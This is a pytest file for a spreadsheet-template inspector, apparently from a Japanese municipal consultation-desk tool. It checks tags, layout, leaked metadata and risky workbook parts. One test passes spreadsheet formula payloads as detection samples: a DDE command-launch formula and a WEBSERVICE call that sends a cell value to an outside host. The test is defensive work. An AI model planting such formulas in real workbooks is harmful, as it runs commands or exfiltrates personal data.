"""様式の点検: 見つけるべきことを一つずつ植え、赤・黄・緑と場所と次の一手を確かめる。"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from jusou_desk.packet import Packet, Value
from jusou_desk.reports.form.fill import fill
from jusou_desk.reports.inspection.cell_boxes import cell_boxes
from jusou_desk.reports.inspection.findings import Finding, Grade
from jusou_desk.reports.inspection.inspecting import Inspection, inspect
from jusou_desk.reports.inspection.vocabulary import DATE, NUMBER, ONE, Vocabulary, Word
from jusou_desk.reports.xlsx.package import read_parts, write_parts
from tests.reports.layouts import new_book, packet, put, record, saved

SPECIMENS = Path(__file__).parents[1] / "specimens"
WORDS = Vocabulary(
    (
        Word("氏名"),
        Word("担当者"),
        Word("相談内容"),
        Word("受付日", DATE),
        Word("相談方法", ONE, terms=("来所", "電話")),
        Word("世帯員.氏名", group="世帯員"),
        Word("世帯員.続柄", group="世帯員"),
    ),
    {"情報提供者": "取扱区分「同意未取得」の項目"},
)


def proof() -> Packet:
    member = {"氏名": "高野森　桜子之助", "続柄": "子"}
    return packet(
        {
            "氏名": "高野森　桜子之助",
            "担当者": "大森　花",
            "相談内容": "長い文。" * 150,
            "受付日": None,
            "相談方法": "電話",
        },
        {"世帯員": [record(member) for _ in range(6)]},
    )


def sheet_with(*cells: tuple[str, str]) -> bytes:
    book, sheet = new_book("票")
    for place, words in cells:
        put(sheet, place, words)
    return saved(book)


def look(data: bytes) -> Inspection:
    return inspect(data, WORDS, proof())


def found(data: bytes, grade: Grade, words: str) -> Finding:
    every = look(data).findings
    (one,) = [f for f in every if f.grade is grade and words in f.what]
    return one


def test_よい様式には赤も黄も無く_何を確かめたかを緑で言う() -> None:
    seen = look(sheet_with(("A1:D1", "{{氏名}}"), ("A2:D2", "{{受付日:和暦}}")))
    assert seen.usable
    assert {one.grade for one in seen.findings} == {Grade.GREEN}
    said = "".join(one.what for one in seen.findings)
    assert "2か所" in said
    assert "はみ出しません" in said
    assert "1頁" in said


@pytest.mark.parametrize(
    ("words", "told", "advice"),
    [
        ("{{担当}}", "「担当」が分かりません", "「担当者」ではありませんか"),
        ("{{ほにゃらら}}", "「ほにゃらら」が分かりません", "タグの一覧"),
        ("{{受付日:西暦}}", "書き方「西暦」が分かりません", "和暦"),
        ("{{氏名", "括弧が片方", "二つずつ"),
        ("氏名｝｝", "括弧が片方", "二つずつ"),
        ("{{情報提供者}}", "載せられません(取扱区分「同意未取得」の項目)", "消してください"),
    ],
)
def test_使えないタグは赤(words: str, told: str, advice: str) -> None:
    data = sheet_with(("A1", "{{氏名}}"), ("B3:C3", words))
    one = found(data, Grade.RED, told)
    assert (one.sheet, one.cell) == ("票", "B3")
    assert advice in one.advice
    assert not look(data).usable


def test_分からないタグは一度だけ言う() -> None:
    assert len([f for f in look(sheet_with(("A1", "{{担当}}"))).findings if f.cell == "A1"]) == 1


def test_シート名とヘッダーのタグも確かめる() -> None:
    book, sheet = new_book("{{担当}}")
    put(sheet, "A1", "{{氏名}}")
    assert sheet.oddHeader is not None
    sheet.oddHeader.center.text = "{{主訴}}"
    places = {f.cell for f in look(saved(book)).findings if f.grade is Grade.RED}
    assert places == {"シート名", "ヘッダー"}


def test_選ぶ語に無い印は黄() -> None:
    one = found(sheet_with(("A1", "{{相談方法:☑電報}}電報")), Grade.YELLOW, "「電報」がない")
    assert "来所、電話" in one.advice


def test_同じことは_場所を並べて一つにする() -> None:
    cells = [(f"A{row}", "{{担当}}") for row in (2, 4, 6, 8, 10)]
    one = found(sheet_with(("A1", "{{氏名}}"), *cells), Grade.RED, "「担当」が分かりません")
    assert one.place == "票　A2、A4、A6 ほか2か所"
    assert one.times == 5


def test_選ぶ語に無い印は_欄ごとに一つにまとめる() -> None:
    cells = (("A1", "{{相談方法:☑電報}}電報 {{相談方法:☑手紙}}手紙"), ("B3", "{{相談方法:☑電報}}"))
    one = found(sheet_with(*cells), Grade.YELLOW, "「電報」「手紙」がない")
    assert one.place == "票　A1、B3"


def test_増やした行のことは_様式の元の行の升で言う() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1:D1", "{{氏名}}")
    put(sheet, "B3", "{{世帯員.氏名}}", wrap_text=True)
    put(sheet, "B4", "{{相談内容}}", wrap_text=True)
    sheet.row_dimensions[3].height = sheet.row_dimensions[4].height = 15
    people = [record({"氏名": "桜子之助" * 40}) for _ in range(6)]
    seen = inspect(saved(book), WORDS, packet({"相談内容": "長い文。" * 150}, {"世帯員": people}))
    (over,) = [f for f in seen.findings if "収まりません" in f.what]
    assert over.place == "票　B3、B4"
    assert seen.book is not None
    cells = [box.cell for box in cell_boxes(seen.book) if box.sheet == "票"]
    # 6人分の行のどれを指しても、様式の B3 になり、その下の升も様式の番地のまま。
    assert (cells.count("B3"), cells.count("B4"), cells.count("B9")) == (6, 1, 0)


@pytest.mark.parametrize(("one_page", "after"), [(0, "行が増えます"), (1, "続紙に続きます")])
def test_罫線だけの行も入れて_何件まで入るかを言う(one_page: int, after: str) -> None:
    book, sheet = new_book("票")
    put(sheet, "A1:D1", "{{氏名}}")
    for row in range(3, 7):
        put(sheet, f"B{row}:C{row}", "{{世帯員.氏名}}" if row == 3 else None)
    sheet.page_setup.fitToHeight = one_page
    one = found(saved(book), Grade.GREEN, "の枠は")
    assert one.place == "票　B3"
    said = "「世帯員」の枠は、タグの下の、罫線だけの行も使って4件分です。5件目からは"
    assert one.what == f"{said}{after}。"


def test_写しのシートのことは_様式の升で一度だけ言う() -> None:
    book, sheet = new_book("{{世帯員.氏名}}")
    put(sheet, "A1:B1", "{{相談内容}}", wrap_text=True)
    sheet.row_dimensions[1].height = 60
    one = found(saved(book), Grade.YELLOW, "収まりません")
    assert (one.place, one.times) == ("{{世帯員.氏名}}　A1", 1)
    assert one.what == "文が枠に収まりません。続きを続紙に書きました。"


def test_シートの名のタグは_印刷範囲の名前の定義ではとがめない() -> None:
    book, sheet = new_book("票{{担当者}}")
    put(sheet, "A1:D1", "{{氏名}}")
    sheet.print_area = "A1:D1"
    assert not [f for f in look(saved(book)).findings if f.grade is not Grade.GREEN]


def test_選ぶ語を点でつないだ書き方も分かる() -> None:
    data = sheet_with(("A1", "{{氏名}}"), ("A2", "{{相談方法.電話:☑}}電話{{相談方法.来所:☑}}来所"))
    assert not [f for f in look(data).findings if f.grade is not Grade.GREEN]
    one = found(sheet_with(("A1", "{{相談方法.電報:☑}}電報")), Grade.YELLOW, "「電報」がない")
    assert one.cell == "A1"
    # 印の書き方が無ければ、何が入るか分からない。
    found(sheet_with(("A1", "{{相談方法.電話}}")), Grade.RED, "「相談方法.電話」が分かりません")


def test_マクロ付きのブックは黄で_出るファイルの種類を言う() -> None:
    parts = read_parts(sheet_with(("A1:D1", "{{氏名}}")))
    types = parts["[Content_Types].xml"]
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert plain in types
    macro = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = types.replace(plain, macro)
    data = write_parts(parts)
    assert "出るファイルも「.xlsm」" in found(data, Grade.YELLOW, ".xlsm").what
    assert look(data).usable


def test_差し込めない所のタグは黄で_一度だけ言う() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1:D1", "{{氏名}}")
    sheet["B3"].comment = Comment("{{担当者}}に聞く", "見本")
    checked = DataValidation(type="list", formula1='"{{相談方法}},その他"')
    sheet.add_data_validation(checked)
    checked.add("C5")
    book.defined_names["氏名欄"] = DefinedName("氏名欄", attr_text='"{{受付日}}"')
    yellow = [f for f in look(saved(book)).findings if "差し込めません" in f.what]
    assert [(f.sheet, f.cell, f.what.partition("に")[0]) for f in yellow] == [
        ("票", "C5", "入力規則"),
        ("票", "", "名前の定義"),
        ("票", "B3", "コメント"),
    ]
    assert {f.advice for f in yellow} == {"セルか図形に書いてください。"}
    assert look(saved(book)).usable


def test_図形のタグも確かめ_一度だけ言う() -> None:
    data = (SPECIMENS / "rich-template.xlsx").read_bytes()
    parts = read_parts(data)
    name = next(n for n in parts if n.startswith("xl/drawings/drawing") and b"<a:t>" in parts[n])
    words = re.search(rb"<a:t>([^<]+)</a:t>", parts[name])
    assert words is not None
    parts[name] = parts[name].replace(words[0], "<a:t>{{担当係}}</a:t>".encode(), 1)
    told = [f for f in look(write_parts(parts)).findings if "「担当係」" in f.what]
    (one,) = told
    assert one.grade is Grade.RED
    assert one.cell.startswith("図形")


def test_タグが無ければ赤で_次の一手は二つ() -> None:
    one = found(sheet_with(("A1", "相談票")), Grade.RED, "タグが一つもありません")
    assert "{{氏名}}" in one.advice
    assert "升と項目を結ぶ" in one.advice


def test_いちばん長い値が枠に入らなければ_その升を黄で言う() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1:B1", "{{相談内容}}", wrap_text=True)
    sheet.row_dimensions[1].height = 20
    one = found(saved(book), Grade.YELLOW, "収まりません")
    assert (one.sheet, one.cell) == ("票", "A1")
    assert "枠を広げる" in one.advice
    assert look(saved(book)).usable


def test_結合に覆われたタグは赤で_書くべき升を言う() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1", "{{氏名}}")
    put(sheet, "C5", "{{担当者}}")
    data = with_merges(saved(book), "B4:D6")
    one = found(data, Grade.RED, "覆われて")
    assert (one.cell, "B4" in one.advice) == ("C5", True)


def test_重なった結合は赤() -> None:
    data = with_merges(sheet_with(("A1", "{{氏名}}")), "C3:D5", "D5:E7")
    assert "D5:E7" in found(data, Grade.RED, "重なっています").what


@pytest.mark.parametrize(("one_page", "told"), [(False, ["A4:A5"]), (True, [])])
def test_一件の途中で終わる結合は_行が増えるときだけ黄(one_page: bool, told: list[str]) -> None:
    """続紙に送るときは、シートごと写すので、形はくずれない。"""
    book, sheet = new_book("票")
    put(sheet, "A1", "{{氏名}}")
    put(sheet, "B3:B4", "{{世帯員.氏名}}")
    put(sheet, "B5:B6", "{{世帯員.氏名}}")
    sheet.merge_cells("A4:A5")
    sheet.page_setup.fitToHeight = int(one_page)
    data = saved(book)
    assert [f.cell for f in look(data).findings if "途中で" in f.what] == told
    green = found(data, Grade.GREEN, "「世帯員」の枠は").what
    assert ("続紙に続きます" if one_page else "行が増えます") in green


def test_一件の終わりまでの結合は_増えた行まで伸びるので_言わない() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1", "{{氏名}}")
    put(sheet, "B3", "{{世帯員.氏名}}")
    data = with_merges(saved(book), "A2:A3")
    assert {one.grade for one in look(data).findings} == {Grade.GREEN}
    made = openpyxl.load_workbook(io.BytesIO(fill(data, proof()).to_xlsx()))
    assert [str(one) for one in made.worksheets[0].merged_cells.ranges] == ["A2:A8"]


@pytest.mark.parametrize(
    ("typed", "near"),
    [
        ("氏明", "氏名"),
        ("性列", "性別"),
        ("世帯員.続炳", "世帯員.続柄"),
        ("住処", ""),  # 住所と住居の、どちらとも言えない
        ("目的", ""),  # ほかの項目の名にある、正しい語
        ("職業", ""),  # 町の様式の見出しにある、正しい語
        ("相談", ""),
        ("続炳", ""),  # 繰返しの外に「続柄」は無い
        ("明氏", ""),
    ],
)
def test_二字の名は_一字違いの一つだけを薦める(typed: str, near: str) -> None:
    tags = ("氏名", "性別", "住所", "住居", "目標", "同意の目的", "職歴", "主訴", "世帯員.続柄")
    words = tuple(Word(tag, group=tag.rpartition(".")[0]) for tag in tags)
    assert Vocabulary(words, also={"職歴": ("職業の経歴",)}).nearest(typed) == near


@pytest.mark.parametrize(
    ("value", "number_format"), [(1_234_567, "#,##0"), (date(2026, 11, 23), "yyyy/mm/dd")]
)
def test_縮めて入れた数も_Excelでは出ないので黄(value: Value, number_format: str) -> None:
    words = Vocabulary((Word("氏名"), Word("件数", NUMBER)))
    given = packet({"氏名": "山田", "件数": value})

    def said(*, shrinks: bool) -> str:
        book, sheet = new_book("票")
        put(sheet, "A1:D1", "{{氏名}}")
        put(sheet, "B3", "{{件数}}", shrink_to_fit=shrinks)
        sheet["B3"].number_format = number_format
        sheet.column_dimensions["B"].width = 8
        return "".join(f"{f.cell}{f.what}" for f in inspect(saved(book), words, given).findings)

    assert "B3数が升より広く、PDFには出ますが、Excelでは「###」と出ます。" in said(shrinks=False)
    assert "はみ出しません" not in said(shrinks=False)
    assert "はみ出しません" in said(shrinks=True)


def test_広すぎて一頁も刷れなければ_使えるとは言わず_わけを一度だけ言う() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1", "{{氏名}}")
    put(sheet, "XFD2000", "端")
    seen = look(saved(book))
    (red,) = [one for one in seen.findings if one.grade is not Grade.GREEN]
    assert (red.grade, red.what) == (
        Grade.RED,
        "シート「票」は印刷する範囲が広すぎるため、PDFにしません。",
    )
    assert "印刷範囲の設定" in red.advice


def with_merges(data: bytes, *areas: str) -> bytes:
    """openpyxl は覆われたセルの字を消すので、結合は後から XML に書く。"""
    parts = read_parts(data)
    name = "xl/worksheets/sheet1.xml"
    cells = "".join(f'<mergeCell ref="{area}"/>' for area in areas).encode()
    merged = b"<mergeCells>" + cells + b"</mergeCells>"
    parts[name] = parts[name].replace(b"</sheetData>", b"</sheetData>" + merged, 1)
    return write_parts(parts)


# --- 付いて出るもの -----------------------------------------------------------


def with_part(name: str, content: bytes = b"<x/>") -> Callable[[bytes], bytes]:
    return lambda data: write_parts({**read_parts(data), name: content})


def with_author(data: bytes) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(data))
    book.properties.creator = "町役場 大田"
    book.properties.lastModifiedBy = "町役場 大田"
    return saved(book)


def with_hidden(data: bytes) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(data))
    extra = book.create_sheet("下書き")
    assert isinstance(extra, Worksheet)
    extra.sheet_state = "veryHidden"
    return saved(book)


def with_path(data: bytes) -> bytes:
    parts = read_parts(data)
    path = (
        b'<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"'
        b' url="C:\\Users\\oota\\"/></workbook>'
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</workbook>", path)
    return write_parts(parts)


def with_about(data: bytes) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(data))
    book.properties.description = "大田さんの分"
    return saved(book)


def in_book(mark: bytes) -> Callable[[bytes], bytes]:
    """ブックの部品の、シートの並びのすぐ前か、終わりに書き足す。"""

    def change(data: bytes) -> bytes:
        parts = read_parts(data)
        before, after = (b"</workbook>",) * 2 if mark.startswith(b"<custom") else (b"<sheets",) * 2
        book = parts["xl/workbook.xml"].replace(before, mark + after, 1)
        assert book != parts["xl/workbook.xml"]
        return write_parts({**parts, "xl/workbook.xml": book})

    return change


COMPANY = (
    b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'extended-properties"><Company>Minato</Company></Properties>'
)
BASE = (
    b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'extended-properties"><HyperlinkBase>C:/Users/Minato</HyperlinkBase></Properties>'
)
VIEW = (
    b'<customWorkbookViews><customWorkbookView name="\xe5\xa4\xa7\xe7\x94\xb0 - \xe5\x80\x8b'
    b'\xe4\xba\xba\xe7\x94\xa8" guid="{00000000-0000-0000-0000-000000000001}" windowWidth="1"'
    b' windowHeight="1" activeSheetId="1"/></customWorkbookViews>'
)
SHAPE = (
    b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">'
    b'<xdr:cNvPr id="2" name="\xe5\x9b\xb3 1" descr="C:\\Users\\Minato\\stamp.png"/></xdr:wsDr>'
)
EXTERNAL = b"<externalLink><externalBook><sheetDataSet><sheetData>%s</sheetData></sheetDataSet>"
LEAKS: dict[str, Callable[[bytes], bytes]] = {
    "作成者の名前": with_author,
    "最後に保存した人の名前": with_author,
    "会社(役場)の名前": with_part("docProps/app.xml", COMPANY),
    "ファイルの属性に、題名・件名": with_about,
    "リンクの元になるフォルダ": with_part("docProps/app.xml", BASE),
    "名前の付いたビュー": in_book(VIEW),
    "書込みのパスワードを付けた人": in_book(b'<fileSharing userName="Minato"/>'),
    "元のファイルの置き場所": with_part("xl/drawings/drawing9.xml", SHAPE),
    "インターネットから取った値": with_part("xl/richData/rdrichvalue.xml"),
    "プリンターの設定": with_part("xl/printerSettings/printerSettings1.bin", b"\0"),
    "保存したフォルダの場所": with_path,
    "画面からは出せない隠れたシート": with_hidden,
    "そのブックの名と置き場所、シートの名": with_part(
        "xl/externalLinks/externalLink1.xml", EXTERNAL % b""
    ),
    "コメント(メモ)": with_part("xl/comments1.xml"),
    "コメントのやり取り": with_part("xl/threadedComments/threadedComment1.xml"),
    "コメントを書いた人": with_part("xl/persons/person.xml"),
    "独自の属性": with_part("docProps/custom.xml"),
    "ほかのファイルが埋め込まれて": with_part("xl/embeddings/oleObject1.bin", b"\0"),
    "見えないデータ": with_part("customXml/item1.xml"),
    "マクロ": with_part("xl/vbaProject.bin", b"\0"),
    "縮小した絵": with_part("docProps/thumbnail.jpeg", b"\0"),
    "スライサー": with_part("xl/slicerCaches/slicerCache1.xml"),
    "ActiveX": with_part("xl/activeX/activeX1.bin", b"\0"),
    "カスタムプロパティ": with_part("xl/customProperty1.bin", b"\0"),
    "リボンに足したボタン": with_part("customUI/customUI14.xml"),
    "秘密度ラベル": with_part("docMetadata/LabelInfo.xml"),
    "グラフかダイアログだけのシート": with_part("xl/chartsheets/sheet1.xml"),
}
LEAK_DATA: dict[str, Callable[[bytes], bytes]] = {
    "変更の履歴": with_part("xl/revisions/revisionHeaders.xml"),
    "外のデータへの接続": with_part("xl/connections.xml"),
    "外のデータを取り込む表": with_part("xl/queryTables/queryTable1.xml"),
    "集計する前の表の中身": with_part("xl/pivotCache/pivotCacheRecords1.xml"),
    "データモデル": with_part("xl/model/item.data", b"\0"),
    "Officeアドイン": with_part("xl/webextensions/webextension1.xml"),
    "古い形のマクロ": with_part("xl/macrosheets/sheet1.xml"),
    "そのブックから写した値": with_part(
        "xl/externalLinks/externalLink1.xml", EXTERNAL % b"<row><cell><v>1</v></cell></row>"
    ),
}


@pytest.mark.parametrize(
    ("told", "grade"),
    [*((told, Grade.YELLOW) for told in LEAKS), *((told, Grade.RED) for told in LEAK_DATA)],
)
def test_付いて出るものは黄_中身が漏れるか外へつながるものは赤で_値は言わない(
    told: str, grade: Grade
) -> None:
    plain = sheet_with(("A1:D1", "{{氏名}}"))
    assert not [f for f in look(plain).findings if told in f.what]
    leaky = {**LEAKS, **LEAK_DATA}[told](plain)
    one = found(leaky, grade, told)
    assert one.advice
    assert "大田" not in one.what
    assert "Minato" not in one.what
    assert look(leaky).usable is (grade is Grade.YELLOW)


def test_名が違っても_関係の種類で見つけ_シートの名を言う() -> None:
    data = with_relation(
        sheet_with(("A1:D1", "{{氏名}}")), "pivotCacheRecords", "/xl/other/kept.xml"
    )
    data = with_part("xl/other/kept.xml")(data)
    assert found(data, Grade.RED, "集計する前の表").sheet == "票"


@pytest.mark.parametrize(
    ("kind", "target", "told", "grade"),
    [
        ("image", "https://e.example/a.png", "外のファイルを取りに行く", Grade.RED),
        ("oleObject", "file:///C:/a.docx", "外のファイルを取りに行く", Grade.RED),
        ("hyperlink", "file:///C:/Users/oota/a.xlsx", "その置き場所", Grade.YELLOW),
        ("hyperlink", "https://www.example.lg.jp/", "", Grade.GREEN),
    ],
)
def test_外のファイルを指す関係(kind: str, target: str, told: str, grade: Grade) -> None:
    data = sheet_with(("A1:D1", "{{氏名}}"))
    data = with_relation(data, kind, target, ' TargetMode="External"')
    if told:
        one = found(data, grade, told)
        assert (one.sheet, "oota" in one.what) == ("票", False)
    else:
        assert {one.grade for one in look(data).findings} == {grade}


def with_relation(data: bytes, kind: str, target: str, mode: str = "") -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{office}/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return with_part("xl/worksheets/_rels/sheet1.xml.rels", rels.encode())(data)


@pytest.mark.parametrize(
    "formula",
    ['=_xlfn.WEBSERVICE("https://example.com/?n="&A1)', "=cmd|'/C calc'!A0", '=RTD("x",,"y")'],
)
def test_外へ値を送る数式は赤(formula: str) -> None:
    data = sheet_with(("A1:D1", "{{氏名}}"), ("A3", formula))
    assert found(data, Grade.RED, "外とつながる数式").advice
    assert not look(data).usable


def test_ふつうの数式はとがめない() -> None:
    data = sheet_with(("A1:D1", "{{氏名}}"), ("A3", '=IF(A1="","空",COUNTA(A1:A2))'))
    assert look(data).usable


def test_保護されたシートは緑() -> None:
    book, sheet = new_book("票")
    put(sheet, "A1:D1", "{{氏名}}")
    sheet.protection.sheet = True
    assert "保護は付いたまま" in found(saved(book), Grade.GREEN, "保護").what


def test_描かれないものは_その升と一緒に黄() -> None:
    from openpyxl.chart import BarChart

    book, sheet = new_book("票")
    put(sheet, "A1:D1", "{{氏名}}")
    sheet.add_chart(BarChart(), "B5")
    one = found(saved(book), Grade.YELLOW, "グラフ")
    assert one.sheet == "票"


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "古い形式"),
        (b"not a workbook", "読めないファイル"),
        (b"PK\x03\x04" + b"\0" * 100, "読めないファイル"),
        (b"", "読めないファイル"),
    ],
)
def test_開けないファイルは赤一つ(data: bytes, told: str) -> None:
    seen = look(data)
    (one,) = seen.findings
    assert one.grade is Grade.RED
    assert told in one.what
    assert one.advice
    assert seen.book is None


def test_部品の壊れたブックも赤一つ() -> None:
    broken = with_part("xl/worksheets/sheet1.xml", b"<worksheet")(sheet_with(("A1", "{{氏名}}")))
    assert [one.grade for one in look(broken).findings] == [Grade.RED]


@pytest.mark.parametrize(
    ("name", "reds", "yellow"),
    [
        ("hougan-intake.xlsx", "タグが一つもありません", ""),
        ("repeating-table.xlsx", "タグが一つもありません", ""),
        ("rich-template.xlsx", "「主訴」が分かりません", "プリンターの設定"),
    ],
)
def test_本物の様式を点検する(name: str, reds: str, yellow: str) -> None:
    seen = look((SPECIMENS / name).read_bytes())
    assert any(reds in one.what for one in seen.findings if one.grade is Grade.RED)
    assert not yellow or any(yellow in one.what for one in seen.findings)
    assert seen.book is not None
    assert list(map(grade, seen.findings)) == sorted(map(grade, seen.findings))


def grade(one: Finding) -> int:
    return list(Grade).index(one.grade)
